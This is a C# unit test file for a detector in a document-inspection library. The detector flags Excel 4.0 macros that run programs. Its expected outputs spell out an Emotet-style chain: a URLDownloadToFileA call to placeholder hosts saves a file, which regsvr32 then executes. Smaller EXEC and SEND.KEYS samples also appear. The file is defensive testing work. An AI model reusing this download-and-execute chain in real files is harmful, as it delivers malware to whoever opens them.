using Sekisho.Inspection.Detection.Macros;
using Sekisho.SampleMaker;

namespace Sekisho.Inspection.Tests.Detection.Macros;

public class XlmRunsProgramTests
{
    [Fact]
    public void ProgramPutTogetherFromCharacters_IsFoundWithItsArguments()
    {
        var evidence = Letters.Ask(new XlmRunsProgram(), "a.xls", XlmSamples.Emotet()).Select(f => f.Evidence).ToList();

        Assert.Equal(
        [
            "CALL(\"urlmon\", \"URLDownloadToFileA\", \"JJCCBB\", 0, \"https://one.example.test/wp-admin/aB3/\", \"..\\wnrul.ocx\", 0, 0) at EWDFFEFAD!F12",
            "CALL(\"urlmon\", \"URLDownloadToFileA\", \"JJCCBB\", 0, \"https://two.example.test/css/\", \"..\\wnrul.ocx\", 0, 0) at EWDFFEFAD!F13",
            "EXEC(\"C:\\Windows\\System32\\regsvr32.exe ..\\wnrul.ocx\") at EWDFFEFAD!F15",
        ], evidence);
    }

    [Fact]
    public void ProgramInPackages_IsFound()
    {
        Assert.Equal("EXEC(\"calc.exe /x\") at Macro1!A1", Assert.Single(Letters.Ask(new XlmRunsProgram(), "a.xlsb", XlmSamples.BinaryPackage())).Evidence);
        Assert.Equal("EXEC(\"calc.exe\") at Macro1!A2", Assert.Single(Letters.Ask(new XlmRunsProgram(), "a.xlsm", XlmSamples.Package(["SET.NAME(\"x\",Data!B3)", "EXEC(x)", "HALT()"]))).Evidence);
    }

    [Theory]
    [InlineData("SEND.KEYS(\"cmd\"&\"~\")", "XLM_RUNS_PROGRAM")]
    [InlineData("SEND.KEYS(\"{ENTER}\")")]
    [InlineData("SEND.KEYS(\"cmd\")")]
    public void TypedCommand_IsFound(string formula, params string[] codes) => Assert.Equal(codes, Letters.Codes(new XlmRunsProgram(), "a.xlsm", XlmSamples.Package([formula, "HALT()"])));

    [Fact]
    public void CallThatCannotBeFollowed_IsFoundAsItStands() =>
        Assert.Equal("EXEC(\"a\") EXEC(\"b\") at Macro1!A2", Assert.Single(Letters.Ask(new XlmRunsProgram(), "a.xlsm", XlmSamples.Package(["HALT()", "EXEC(\"a\") EXEC(\"b\")"]))).Evidence);

    [Fact]
    public void HarmlessMacro_IsNot() => Assert.Empty(Letters.Codes(new XlmRunsProgram(), "a.xls", XlmSamples.Hello()));
}
